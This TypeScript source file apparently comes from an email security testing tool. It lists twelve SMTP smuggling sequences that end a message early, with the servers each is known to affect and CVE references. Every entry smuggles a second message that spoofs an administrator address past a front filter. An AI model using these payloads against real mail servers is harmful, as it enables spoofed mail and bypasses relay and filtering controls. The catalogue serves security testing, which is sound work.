// SMTP smuggling: twelve texts that one side takes for the end of a message and the other for its content (RFC 5321 sections
// 2.3.8 and 4.1.1.4). Data; none has a dot after CR LF, which every sender doubles, so that it could not arrive.
// They are for a filter in front of a server that trusts it: the second message is never seen by the relay rule.
import type { Technique } from '../model/technique.js';

interface LookAlike {
  readonly id: string;
  readonly text: string;
  /** How the server goes wrong, after "Ends a message at". */
  readonly at: string;
  readonly why: string;
  readonly knownFor: readonly string[];
}

const BARE_LF = 'A line feed alone is taken for a line end, as on Unix.';
const BARE_CR = 'A carriage return alone is taken for a line end, as on old Macintosh systems.';
const CONTROL = 'The text is split by a function that knows more line ends than SMTP does.';

const LOOK_ALIKES: readonly LookAlike[] = [
  {
    id: 'smuggle-lf-lf',
    text: '\n.\n',
    at: 'LF . LF',
    why: BARE_LF,
    knownFor: ['Postfix before 3.8.4', 'Sendmail before 8.18', 'Exim before 4.97.1'],
  },
  {
    id: 'smuggle-lf-crlf',
    text: '\n.\r\n',
    at: 'LF . CR LF',
    why: BARE_LF,
    knownFor: ['Postfix before 3.8.4', 'Sendmail before 8.18', 'Exim before 4.97.1', 'Cisco Secure Email'],
  },
  { id: 'smuggle-lf-cr', text: '\n.\r', at: 'LF . CR', why: BARE_LF, knownFor: [] },
  { id: 'smuggle-cr-lf', text: '\r.\n', at: 'CR . LF', why: BARE_CR, knownFor: [] },
  {
    id: 'smuggle-cr-cr',
    text: '\r.\r',
    at: 'CR . CR',
    why: BARE_CR,
    knownFor: ['Cisco Secure Email: CR and LF handling "clean"'],
  },
  { id: 'smuggle-cr-crlf', text: '\r.\r\n', at: 'CR . CR LF', why: BARE_CR, knownFor: [] },
  {
    id: 'smuggle-nul-crlf',
    text: '\r\n\0.\r\n',
    at: 'CR LF NUL . CR LF',
    why: 'The NUL is dropped before the line is looked at.',
    knownFor: [],
  },
  {
    id: 'smuggle-nul-lf',
    text: '\n\0.\n',
    at: 'LF NUL . LF',
    why: 'The NUL is dropped before the line is looked at.',
    knownFor: [],
  },
  {
    id: 'smuggle-lf-dot-nul',
    text: '\n.\0\r\n',
    at: 'LF . NUL CR LF',
    why: 'The line ends at the NUL, as text in C does.',
    knownFor: [],
  },
  { id: 'smuggle-vt', text: '\v.\v', at: 'VT . VT', why: CONTROL, knownFor: [] },
  { id: 'smuggle-ff', text: '\f.\f', at: 'FF . FF', why: CONTROL, knownFor: [] },
  {
    id: 'smuggle-space-dot',
    text: '\r\n .\r\n',
    at: 'a dot with a space before it',
    why: 'White space is trimmed off the line before it is compared with the dot.',
    knownFor: [],
  },
];

export const smuggling: readonly Technique[] = LOOK_ALIKES.map(({ id, text, at, why, knownFor }) => ({
  id,
  family: 'protocol',
  set: 'named',
  title: `Ends a message at ${at}, and takes what follows for commands`,
  why,
  references: [
    'CVE-2023-51764',
    'CVE-2023-51765',
    'CVE-2023-51766',
    'RFC 5321 section 2.3.8',
    'RFC 5321 section 4.1.1.4',
  ],
  knownFor,
  forwardPath: '{local.recipient}',
  extras: { smuggle: text, smuggled: { reversePath: 'admin@{local.domain}', forwardPath: '{canary}' } },
  proof: 'delivery',
}));
